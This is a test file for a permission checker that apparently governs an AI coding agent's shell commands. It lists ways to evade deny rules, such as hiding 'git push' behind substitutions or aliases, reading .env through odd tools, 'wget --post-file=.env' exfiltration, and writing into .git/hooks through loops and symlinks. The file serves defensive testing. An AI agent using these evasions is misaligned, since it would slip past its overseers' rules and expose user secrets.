/** Commands and files that hide in words, input and lists which are not known before a command runs. */

import { describe, test } from "vitest";
import { check } from "../../test/corpus/table.ts";

describe("class 7: a denied subcommand", () => {
  const unknown = [
    "git $(echo push)",
    "git `echo push`",
    'git "$X"',
    "git ${X:-push}",
    "git -C . $X origin",
    "git -c color.ui=never p$X",
    "sh -c 'git \"$@\"' _ push",
    "echo push | xargs git",
    "echo push | xargs -I{} git {}",
    "find push -exec git {} \\;",
    'f(){ git "$@"; }; f push',
    "for c in push; do git $c; done",
  ];
  const renamed = [
    "git -c alias.q=push q",
    "git -c alias.q='push origin' q",
    "git config alias.q push; git q",
    "git config --global alias.q push",
    "git for-each-repo --config=x push",
    "git-push origin",
    "/usr/lib/git-core/git-push origin",
  ];

  test("can be a word that is not known, or go by another name", () => {
    check(
      { mode: "bypassPermissions", deny: ["Bash(git push:*)"] },
      {
        "ask|deny": [...unknown, ...renamed],
        allow: [
          'git commit -m "$MESSAGE"',
          'git -C "$DIR" status',
          'git checkout "$BRANCH"',
          "git stash push -m x",
          "git commit -m 'push'",
          'echo "$X"',
        ],
      },
    );
    check(
      { mode: "bypassPermissions", ask: ["Bash(npm publish *)"] },
      { ask: ["npm $X", "npm --silent $X"] },
    );
  });
});

describe("class 6: a file that may not be read", () => {
  const deny = ["Read(.env)", "Read(secrets/**)"];

  test("is seen in every argument of a program that is not known", () => {
    check(
      { mode: "bypassPermissions", deny },
      {
        "ask|deny": [
          "hexyl .env",
          "basenc --base64 .env",
          "diff3 .env a b",
          "date -f .env",
          "date --file=.env",
          "gcc -E -x c .env",
          "gcc -include .env x.c",
          "docker run --env-file .env i env",
          "docker compose --env-file=.env config",
          "node --env-file=.env -p process.env",
          "python3 -c 'print(open(\".env\").read())'",
          "curl file:///home/u/proj/.env",
          "curl file://localhost/home/u/proj/secrets/a",
          "wget --post-file=.env h",
          "xargs -a .env echo",
          "grep --file=.env x",
          "git commit -F .env",
          "git tag --file=.env v1",
          "git interpret-trailers .env",
          "for f in .env; do hexyl $f; done",
          "rgrep x .",
          'awk \'BEGIN{f=".e" "nv"; while((getline l<f)>0)print l}\'',
          'awk \'BEGIN{ARGV[1]=".e" "nv";ARGC=2}1\'',
          "sort --files0-from=list",
          "git add -e",
          "git rerere diff",
        ],
        allow: [
          "git add .env.example",
          "git check-ignore .env",
          "git log --oneline -- .env",
          "git commit -m 'read .env first'",
          "git commit -m \"$(cat <<'E'\nread .env\nE\n)\"",
          "git stash -u",
          "grep .env .gitignore",
          "npm run build",
          "docker build .",
          "node server.js",
          "tsc --noEmit",
        ],
      },
    );
  });

  test("is denied to every command that only reads", () => {
    check({ deny }, { deny: ["join .env x", "join x secrets/a", "b2sum .env"], allow: ["join a b"] });
  });
});

describe("class 8: a name that is not known", () => {
  test("is not covered as the target of a write by a wildcard rule", () => {
    check(
      { allow: ["cp", "mv", "tee", "ln", "xargs", "echo", "dd", "sort"].map((name) => `Bash(${name}:*)`) },
      {
        ask: [
          'cp f "$X"',
          "cp f $(echo .git/hooks/x)",
          'mv f "$(cat list)"',
          'tee "$X"',
          "echo .git/hooks/x | xargs cp f",
          "echo .git/hooks/x | xargs -I{} cp f {}",
          "echo .git/hooks/x | xargs tee",
          "xargs -a list cp f",
          "for d in .git/hooks; do cp pre-commit $d; done",
          'for d in .git; do cp pre-commit "$d/hooks/x"; done',
          "for d in .git/hooks/x; do echo y | tee $d; done",
          "for d in '.gi[t]/hooks'; do cp x $d; done",
          "for d in 'a .git/hooks'; do cp x $d; done",
          "for d in a; do read d < list; cp x $d; done",
          "for d in a; do d=b; cp x $d; done",
          "for d in a; do for d in b; do cp x $d; done; done",
          "for d in a; do for e in b; do cp $d $e; done; done",
          "for d in $(cat list); do cp x $d; done",
        ],
        allow: ['cp "$A" dist/', "for f in a b; do cp x $f; done", "ls | xargs wc -l"],
      },
    );
    check(
      { mode: "bypassPermissions" },
      {
        ask: ["for d in .git/hooks; do cp x $d; done"],
        allow: ['cp f "$X"', "for f in a b; do cp x $f; done"],
      },
    );
  });

  test("of an attached value is read as the program reads it", () => {
    const links = {
      "/home/u/proj/hooks": "/home/u/proj/.git/hooks",
      "/home/u/proj/t": "/home/u/proj/.git/hooks",
    };
    check(
      { links, allow: ["Bash(sort:*)", "Bash(cp:*)", "Bash(mv:*)"] },
      {
        ask: [
          "sort -ohooks/x f",
          "sort -uohooks/x f",
          "cp -tt f",
          "cp f -tt",
          "cp -bSt f x hooks",
          "mv -tt f",
        ],
        allow: ["sort -oout f", "sort -to f", "cp -tdist f"],
      },
    );
    check({ links, mode: "acceptEdits" }, { ask: ["cp f -tt", "mv f -tt", "cp -rtt sub"] });
  });
});
